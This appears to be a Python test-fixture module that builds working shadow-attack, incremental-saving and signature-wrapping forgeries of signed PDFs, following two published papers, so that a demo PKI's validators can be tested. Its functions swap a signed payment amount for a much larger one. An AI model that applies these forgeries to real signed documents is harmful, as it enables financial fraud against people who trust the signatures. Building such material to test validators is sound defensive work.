"""Attack files, built from the published descriptions, on documents the demo PKI signs.

Shadow attacks (Mainka, Mladenov, Rohlmann, Schwenk, "Shadow Attacks: Hiding and Replacing
Content in Signed PDFs", NDSS 2021): the attacker prepares the document the victim signs,
then changes what it shows with an incremental update that naive validators accept.

* hide (object overwrite): the signed page draws the attacker's text and, over it, a white
  "cover" form XObject with the text the victim reads; after signing, the update redefines
  the cover object as an empty stream, uncovering the hidden text;
* hide (xref only): the cover object has an older, empty definition earlier in the file
  (an update the victim signed over); the attack update holds no object at all, only an
  xref section pointing that object number back at the old definition;
* replace (font overwrite): after signing, the update redefines the font so the same
  content stream draws other glyphs (an encoding with /Differences);
* hide-and-replace: the signed file already holds a second, unused content stream; the
  update only repoints the page's /Contents at it.

Incremental saving attacks (Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk,
"1 Trillion Dollar Refund", CCS 2019):

* ISA with xref: a regular incremental update with a new content stream for the page;
* ISA without xref: objects appended after %%EOF with no xref section or trailer (lenient
  viewers rebuild the xref and show them; the last signature no longer covers the file);
* signature wrapping (SWA): the unused zero padding of the signature's /Contents is cut
  short and the attacker's object written into the excluded gap, then referenced by an
  update.
"""

from __future__ import annotations

import io
import re

import pikepdf

BENIGN = b"SO TIEN: 100.000 DONG"
_PAGE = rb"/Type\s*/Page(?!s)\b"
MALICIOUS = b"SO TIEN: 900.000.000 DONG"


def _save(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def _font(pdf: pikepdf.Pdf):
    return pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica))


def shadow_document() -> bytes:
    """A page drawing the hidden text, then a white cover XObject with the visible text."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    font = _font(pdf)
    cover = pdf.make_stream(
        b"1 1 1 rg 0 0 400 40 re f 0 0 0 rg BT /F1 14 Tf 4 14 Td (" + BENIGN + b") Tj ET",
        Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 400, 40],
        Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font)))
    unused = pdf.make_stream(b"BT /F1 14 Tf 72 760 Td (" + MALICIOUS + b") Tj ET")
    page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font),
                                        XObject=pikepdf.Dictionary(Cover=cover))
    page.Contents = pdf.make_stream(
        b"BT /F1 14 Tf 72 760 Td (" + MALICIOUS + b") Tj ET q 1 0 0 1 68 746 cm /Cover Do Q")
    # kept in the file, drawn nowhere: the hide-and-replace payload
    pdf.Root.PieceInfo = pikepdf.Dictionary(Shadow=pikepdf.Dictionary(Data=unused))
    return _save(pdf)


def _objects(data: bytes) -> dict[int, int]:
    """Object number -> offset of its LAST definition in the file."""
    return {int(m.group(1)): m.start() for m in re.finditer(rb"(?m)^(\d+) 0 obj", data)}


def _find_obj(data: bytes, needle: bytes) -> int:
    """Number of the last-defined object whose body contains ``needle`` (a regex)."""
    best = None
    for num, off in _objects(data).items():
        end = data.find(b"endobj", off)
        if re.search(needle, data[off:end]):
            best = num
    if best is None:
        raise LookupError(needle)
    return best


def _startxref(data: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def _trailer_size_root(data: bytes) -> tuple[int, bytes]:
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(io.BytesIO(data), strict=False)
    size = int(reader.trailer_view["/Size"])
    root = reader.trailer_view.raw_get("/Root").reference
    return size, f"{root.idnum} {root.generation} R".encode()


def append_update(data: bytes, objects: dict[int, bytes], *,
                  redirect: dict[int, int] | None = None) -> bytes:
    """An incremental update defining ``objects`` (number -> body) and pointing the numbers
    in ``redirect`` at existing offsets (no body written for those)."""
    size, root = _trailer_size_root(data)
    prev = _startxref(data)
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    offsets = dict(redirect or {})
    for num, body in sorted(objects.items()):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n"
    for num in sorted(offsets):
        out += b"%d 1\n%010d 00000 n \n" % (num, offsets[num])
    new_size = max(size, max(offsets) + 1)
    out += (b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
            % (new_size, root, prev, xref_at))
    return bytes(out)


def _stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(content), extra) + content + \
        b"\nendstream"


# --- shadow attacks ------------------------------------------------------------------

def hide_by_overwrite(signed: bytes) -> bytes:
    cover = _find_obj(signed, rb"/Subtype\s*/Form")
    return append_update(signed, {cover: _stream(
        b"", b"/Type /XObject /Subtype /Form /BBox [0 0 400 40] ")})


def shadow_document_with_old_cover() -> bytes:
    """The shadow document plus an update (made before signing) that redefines the cover:
    the first definition is empty (invisible), the second white with the visible text."""
    data = shadow_document()
    cover = _find_obj(data, rb"/Subtype\s*/Form")
    off = _objects(data)[cover]
    body = data[data.index(b"obj", off) + 3:data.index(b"endobj", off)].strip()
    empty = _stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 400 40] ")
    # rev 0 keeps the visible cover; rev 1 defines it as empty; rev 2 restores it: the
    # victim signs rev 2, which shows the cover
    data = append_update(data, {cover: empty})
    return append_update(data, {cover: body})


def hide_by_xref_only(signed: bytes) -> bytes:
    cover = _find_obj(signed, rb"/Subtype\s*/Form")
    empty_defs = [m.start() for m in re.finditer(rb"(?m)^%d 0 obj" % cover, signed)
                  if b"/Length 0" in signed[m.start():m.start() + 120]]
    return append_update(signed, {}, redirect={cover: empty_defs[0]})


def replace_font(signed: bytes) -> bytes:
    font = _find_obj(signed, rb"/BaseFont\s*/Helvetica")
    return append_update(signed, {font: (
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << "
        b"/Type /Encoding /BaseEncoding /WinAnsiEncoding "
        b"/Differences [49 /nine] >> >>")})


def hide_and_replace(signed: bytes) -> bytes:
    page = _find_obj(signed, _PAGE)
    unused = _find_obj(signed, rb"Tj ET\s*endstream")
    off = _objects(signed)[page]
    body = signed[signed.index(b"obj", off) + 3:signed.index(b"endobj", off)].strip()
    body = re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % unused, body)
    return append_update(signed, {page: body})


# --- incremental saving attacks -------------------------------------------------------

def isa_with_xref(signed: bytes) -> bytes:
    page = _find_obj(signed, _PAGE)
    contents = int(re.search(rb"/Contents (\d+) 0 R",
                             signed[_objects(signed)[page]:]).group(1))
    return append_update(signed, {contents: _stream(
        b"BT /F1 14 Tf 72 760 Td (" + MALICIOUS + b") Tj ET")})


def isa_without_xref(signed: bytes) -> bytes:
    page = _find_obj(signed, _PAGE)
    contents = int(re.search(rb"/Contents (\d+) 0 R",
                             signed[_objects(signed)[page]:]).group(1))
    return signed + b"%d 0 obj\n" % contents + _stream(
        b"BT /F1 14 Tf 72 760 Td (" + MALICIOUS + b") Tj ET") + b"\nendobj\n"


def signature_wrapping(signed: bytes) -> bytes:
    """Write an object into the zero padding of the last /Contents, and point the page's
    content stream at it with an update."""
    start = signed.rindex(b"/Contents <")
    hex_start = start + len(b"/Contents <")
    hex_end = signed.index(b">", hex_start)
    hex_value = signed[hex_start:hex_end]
    used = len(hex_value.rstrip(b"0"))
    used += used % 2
    page = _find_obj(signed, _PAGE)
    contents = int(re.search(rb"/Contents (\d+) 0 R",
                             signed[_objects(signed)[page]:]).group(1))
    payload = b">\n%d 0 obj\n" % contents + _stream(
        b"BT /F1 14 Tf 72 760 Td (" + MALICIOUS + b") Tj ET") + b"\nendobj\n"
    room = len(hex_value) - used
    if len(payload) + 2 > room:
        raise ValueError("no room in the signature placeholder")
    new_hex = hex_value[:used] + payload + b" " * (room - len(payload))
    wrapped = signed[:hex_start] + new_hex + b" " + signed[hex_end + 1:]
    obj_offset = hex_start + used + 2
    return append_update(wrapped, {}, redirect={contents: obj_offset})
